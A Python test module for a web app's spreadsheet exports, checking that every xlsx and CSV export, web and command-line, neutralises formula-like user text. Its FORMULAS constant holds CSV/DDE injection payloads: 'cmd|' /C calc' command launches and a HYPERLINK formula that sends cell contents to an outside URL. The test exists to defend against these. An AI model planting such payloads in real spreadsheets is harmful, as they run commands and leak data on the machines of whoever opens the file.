"""Text that starts like a formula (=, +, -, @, a tab, a carriage return) in
every free-text field that an export reads, then every spreadsheet the app
writes, on the web and from the command line: no cell may reach Excel or WPS
as a formula. An .xlsx keeps such text as text (typed as text and marked
quote-prefixed, the value unchanged); a CSV, which has no cell types, puts a
``'`` before it. Numbers stay numbers.

The exports are listed here by hand, each with the writer it goes through;
the writers are found in the source, and the export routes in the URL map,
so a new one fails this test until it is walked here."""

import ast
import csv
import io
import itertools
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import String, Text

import thinktank
from tests.consultations.proceedings_factories import held_session
from tests.helpers import Auth
from tests.reviews.outcome_factories import add_sheet
from tests.reviews.panel_factories import applications_of, panel_with, scoring_round
from tests.reviews.round_factories import make_round
from thinktank.consultations.models import ConsultationSession
from thinktank.experts.models import Expert, ExpertiseField
from thinktank.extensions import db
from thinktank.reviews.models import Application, Criterion, ReviewGroup, ReviewRound
from thinktank.spreadsheets import csv_text, workbook_bytes

FORMULAS = ('=HYPERLINK("http://x/?d="&A1,"点此")', "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1")
# Written out again rather than imported: the test checks the rule, not itself.
STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-\d+(\.\d+)?")

# The tables the exports read, and their columns that are not free text: a
# code, a choice from a fixed list, a state, a key derived from another column.
EXPORTED_TABLES = {
    Expert: {"code", "gender", "category", "city", "mobile", "email", "status",
             "name_pinyin", "organisation_key"},
    ExpertiseField: set(),
    ConsultationSession: {"kind", "topic", "status", "uid", "reminder_offsets_minutes",
                          "online_link"},
    ReviewRound: {"aggregation", "status"},
    Criterion: set(),
    ReviewGroup: set(),
    Application: {"direction", "city", "phone", "organisation_key"},
}

ROOT = Path(thinktank.__file__).parent
# The functions that build a spreadsheet, and every export that goes through each.
WRITERS = {
    "experts/exporter.py:export_experts": ("web experts.export", "cli experts export"),
    "honoraria/exporter.py:payment_workbook": (
        "web honoraria.session_export", "web honoraria.round_export",
        "cli honoraria session", "cli honoraria round"),
    "reviews/results.py:results_workbook": ("web reviews.results_export",),
    "admin/audit_log.py:audit_workbook": ("web admin.audit_export",),
    "spreadsheets.py:csv_text": ("cli reviews results",),
    "spreadsheets.py:template_bytes": ("web experts.import_template",),
}
# Files of fixed text only (an empty import template): checked, but no user text reaches them.
FIXED_TEXT = {"/experts/import/template.xlsx"}


def _calls(function: ast.AST) -> set[str]:
    """The names a function calls: ``f(...)`` as "f", ``m.f(...)`` as "m.f"."""
    names = set()
    for node in ast.walk(function):
        if isinstance(node, ast.Call):
            if isinstance(node.func, ast.Name):
                names.add(node.func.id)
            elif isinstance(node.func, ast.Attribute):
                owner = node.func.value
                prefix = f"{owner.id}." if isinstance(owner, ast.Name) else "."
                names.add(prefix + node.func.attr)
    return names


def _functions() -> dict[str, set[str]]:
    """Every function of the package, as "path:name", with what it calls."""
    found = {}
    for path in sorted(ROOT.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
                found[f"{path.relative_to(ROOT).as_posix()}:{node.name}"] = _calls(node)
    return found


def test_every_spreadsheet_writer_goes_through_the_rule_and_is_walked(app):
    functions = _functions()
    workbooks = {name for name, calls in functions.items() if "Workbook" in calls}
    csv_writers = {name for name, calls in functions.items()
                   if calls & {"csv.writer", "csv.DictWriter", ".to_csv", ".to_excel"}}
    assert csv_writers == {"spreadsheets.py:csv_text"}, "write CSV with spreadsheets.csv_text"
    assert [name for name in workbooks if "workbook_bytes" not in functions[name]] == [], \
        "save every workbook with spreadsheets.workbook_bytes"
    assert workbooks | csv_writers == WRITERS.keys(), "a new spreadsheet: walk its exports here"
    # Every route that answers with a spreadsheet is walked.
    export_routes = {rule.endpoint for rule in app.url_map.iter_rules()
                     if rule.endpoint.endswith("export") or rule.rule.endswith((".xlsx", ".csv"))}
    walked = {export.split()[1] for exports in WRITERS.values() for export in exports
              if export.startswith("web ")}
    assert export_routes == walked


def _payloads():
    for number in itertools.count(1):
        yield FORMULAS[number % len(FORMULAS)], str(number)


def fill_free_text() -> None:
    """A formula-like text in every free-text column of every row the exports
    read (numbered, as some must be unique), and a formula-like e-mail."""
    payloads = _payloads()
    for model, ruled in EXPORTED_TABLES.items():
        columns = [column for column in model.__table__.columns
                   if isinstance(column.type, String | Text) and column.name not in ruled]
        for row in db.session.scalars(db.select(model)):
            for column in columns:
                payload, suffix = next(payloads)
                length = column.type.length or 1000
                setattr(row, column.key, payload[:length - len(suffix)] + suffix)
    for number, expert in enumerate(db.session.scalars(db.select(Expert)), start=1):
        expert.email = f"-{number}+1@example.cn"  # a valid address
    db.session.commit()


@pytest.fixture
def world(app, make_user, make_expert):
    experts = [make_expert(field_names=["生物医药", "投融资"]) for _ in range(3)]
    session = held_session(present=experts)
    draft = make_round(applications=2, group="第一组")
    scoring = scoring_round(applications=2, group="第一组")
    panel_with(scoring, experts)
    first, second = applications_of(scoring)
    for expert, total in zip(experts, ["90", "85", "20"], strict=True):  # 20: an outlier
        add_sheet(scoring, first, expert, total)
        add_sheet(scoring, second, expert, "80", recommendation="不推荐")
    db.session.commit()
    fill_free_text()
    client = app.test_client()
    Auth(client).login(make_user("secretariat", "admin"))  # the admin reads the audit log
    group = db.session.scalar(db.select(ReviewGroup).where(ReviewGroup.round_id == scoring.id))
    return {"client": client, "session": session.id, "draft": draft.id, "scoring": scoring.id,
            "group": (group.id, group.name)}


def _xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def formula_like_cells_of_workbook(data: bytes) -> int:
    """How many cells hold text starting like a formula; fails unless every one
    is kept as quote-prefixed text and no cell at all is a formula."""
    cells = _xlsx_cells(data)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    risky = [cell for cell in cells
             if isinstance(cell.value, str) and cell.value.startswith(STARTS)]
    assert [(cell.coordinate, cell.value) for cell in risky
            if cell.data_type != "s" or not cell.quotePrefix] == []
    return len(risky)


def formula_like_cells_of_csv(text: str) -> int:
    """How many cells hold text that started like a formula; fails unless every
    one has its leading ``'`` (a negative number may start with "-")."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(STARTS) and not NUMBER.fullmatch(cell)] == []
    return sum(cell[:1] == "'" and cell[1:].startswith(STARTS) for cell in cells)


def test_no_export_lets_a_formula_through(app, world, tmp_path):
    client, runner = world["client"], app.test_cli_runner()
    group_id, group_name = world["group"]
    web = {
        "web experts.export": ["/experts/export"],
        "web honoraria.session_export": [f"/honoraria/sessions/{world['session']}.xlsx"],
        "web honoraria.round_export": [f"/honoraria/rounds/{world['scoring']}.xlsx"],
        "web reviews.results_export": [f"/reviews/{world['draft']}/results.xlsx",
                                       f"/reviews/{world['scoring']}/results.xlsx",
                                       f"/reviews/{world['scoring']}/results.xlsx?group={group_id}"],
        "web experts.import_template": ["/experts/import/template.xlsx"],
        "web admin.audit_export": ["/admin/audit.xlsx"],
    }
    target = str(tmp_path / "export.xlsx")
    cli = {
        "cli experts export": [["experts", "export", target]],
        "cli honoraria session": [["honoraria", "session", str(world["session"]), target]],
        "cli honoraria round": [["honoraria", "round", str(world["scoring"]), target]],
        "cli reviews results": [["reviews", "results", str(world["draft"])],
                                ["reviews", "results", str(world["scoring"])],
                                ["reviews", "results", str(world["scoring"]),
                                 "--group", group_name]],
    }
    assert web.keys() | cli.keys() == {e for exports in WRITERS.values() for e in exports}
    found = {}
    for url in itertools.chain.from_iterable(web.values()):
        response = client.get(url)
        assert response.status_code == 200, url
        found[url] = formula_like_cells_of_workbook(response.data)
    for args in itertools.chain.from_iterable(cli.values()):
        result = runner.invoke(args=args)
        assert result.exit_code == 0, (args, result.output)
        if args[-1] == target:
            found[" ".join(args)] = formula_like_cells_of_workbook(Path(target).read_bytes())
        else:
            found[" ".join(args)] = formula_like_cells_of_csv(result.output)
    # The texts did reach every file: the checks above were not vacuous.
    assert [name for name, count in found.items()
            if count < 3 and name not in FIXED_TEXT] == [], found


def test_formula_like_text_is_marked_and_numbers_stay_numbers():
    assert csv_text([["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "a=1", -1, Decimal("-2.5"),
                      None, "'=kept"]]) == (
        "'=1+1,'+1,'-1,'@A1,'\t=1,\"'\r=1\",a=1,-1,-2.5,,'=kept\r\n")
    book = Workbook()
    book.active.append(["=1+1", "-1", "#N/A", "a=1", -1, Decimal("-2.5")])
    cells = _xlsx_cells(workbook_bytes(book))
    assert [(cell.value, cell.data_type, bool(cell.quotePrefix)) for cell in cells] == [
        ("=1+1", "s", True), ("-1", "s", True), ("#N/A", "s", False), ("a=1", "s", False),
        (-1, "n", False), (-2.5, "n", False)]
